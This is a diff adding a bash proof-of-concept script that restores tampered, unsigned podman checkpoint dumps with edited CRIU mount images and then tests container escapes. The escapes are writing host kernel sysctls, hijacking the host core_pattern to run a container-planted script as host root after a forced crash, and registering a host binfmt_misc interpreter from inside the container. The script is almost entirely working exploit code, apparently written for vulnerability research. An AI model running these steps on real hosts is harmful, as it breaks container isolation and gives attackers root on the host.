@@ -1,0 +1,49 @@
+#!/bin/bash
+# attack30d: unsigned dumps with edited CRIU mount images through podman's own `podman container restore --import`.
+# Usage: run.sh MODE... ; the trust policy is whatever the caller set (nosig.sh sets restore:any and puts it back).
+set -u
+D=/var/tmp/attack30d; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
+SRC=${SRC:-src.tar.zst}; cd $D
+for mode in "$@"; do
+  echo "=== $mode ($(date -u +%T))"
+  rm -f $D/binfmt-ran $D/core-ran
+  if [ -z "${PROOF_ONLY:-}" ]; then  # import.sh restored it already
+    $P $H/edit.py $SRC $mode.tar.zst $mode >/dev/null || { echo "edit failed"; continue; }
+    podman rm -f -t 0 attack30d-src >/dev/null 2>&1
+    timeout 200 podman container restore --import $mode.tar.zst 2>&1 | tail -2 | cut -c1-700; echo "restore rc=${PIPESTATUS[0]}"
+  fi
+  case $mode in
+    nosig) podman exec attack30d-src sh -c 'cat /tmp/count; grep " /proc/sys " /proc/self/mountinfo' 2>&1; echo "exec rc=$?";;
+    procsys*)
+      before=$(cat /proc/sys/kernel/printk_ratelimit)
+      podman exec attack30d-src sh -c 'grep " /proc/sys " /proc/self/mountinfo; echo 7 > /proc/sys/kernel/printk_ratelimit' 2>&1; echo "exec rc=$?"
+      now=$(cat /proc/sys/kernel/printk_ratelimit); echo "host kernel.printk_ratelimit: before $before, now $now"
+      [ "$now" = 7 ] && echo "HOST KERNEL STATE written from the container"
+      echo $before > /proc/sys/kernel/printk_ratelimit
+      # the same write, to core_pattern: a pipe to a program in the container's upper layer (its host path is in
+      # the container's own mountinfo), then a crash in the container runs it as host root
+      cp_before=$(cat /proc/sys/kernel/core_pattern)
+      podman exec attack30d-src sh -c '
+        up=$(sed -n "s/.* overlay overlay .*upperdir=\([^,]*\),.*/\1/p" /proc/self/mountinfo | head -1)
+        printf "#!/bin/sh\n{ id; readlink /proc/self/ns/mnt; } > /var/tmp/attack30d/core-ran\n" > /attack30d-core; chmod 755 /attack30d-core
+        echo "|$up/attack30d-core" > /proc/sys/kernel/core_pattern; ulimit -c unlimited; sh -c "kill -SEGV \$\$"; true' 2>&1
+      sleep 1; echo "host core_pattern was: $(cat /proc/sys/kernel/core_pattern)"
+      echo "$cp_before" > /proc/sys/kernel/core_pattern; echo "host core_pattern put back: $(cat /proc/sys/kernel/core_pattern)"
+      [ -e $D/core-ran ] && echo "HOST ROOT via core_pattern: $(tr '\n' ' ' < $D/core-ran) (this shell's mnt ns: $(readlink /proc/self/ns/mnt))" || echo "core handler did not run";;
+    binfmt*)  # the container registers a handler itself through its rw binfmt_misc mount (the host's instance)
+      podman exec attack30d-src sh -c '
+        grep " /mnt " /proc/self/mountinfo; ls /mnt
+        up=$(sed -n "s/.* overlay overlay .*upperdir=\([^,]*\),.*/\1/p" /proc/self/mountinfo | head -1)
+        printf "#!/bin/sh\n{ echo \"HOST ROOT via binfmt_misc: \$(id) file=\$1\"; readlink /proc/self/ns/mnt; } > /var/tmp/attack30d/binfmt-ran\n" > /attack30d-interp; chmod 755 /attack30d-interp
+        [ -e /mnt/attack30d ] || echo ":attack30d:E::attack30d::$up/attack30d-interp:" > /mnt/register; echo "register from the container rc=$?"' 2>&1
+      mkdir -p $D/bm; mount -t binfmt_misc binfmt_misc $D/bm 2>&1
+      echo "host binfmt_misc entry: $(tr '\n' ' ' < $D/bm/attack30d 2>&1)"
+      printf 'x\n' > $D/trigger.attack30d; chmod 755 $D/trigger.attack30d
+      $D/trigger.attack30d; echo "host exec of trigger.attack30d rc=$?"
+      [ -e $D/binfmt-ran ] && echo "$(tr '\n' ' ' < $D/binfmt-ran) (this shell's mnt ns: $(readlink /proc/self/ns/mnt))" || echo "interpreter did not run"
+      [ -e $D/bm/attack30d ] && echo -1 > $D/bm/attack30d && echo "entry removed"
+      umount $D/bm; rmdir $D/bm;;
+    *) podman exec attack30d-src sh -c 'ls /mnt | head; grep " /mnt " /proc/self/mountinfo' 2>&1; echo "exec rc=$?";;
+  esac
+  podman rm -f -t 0 attack30d-src >/dev/null 2>&1
+done
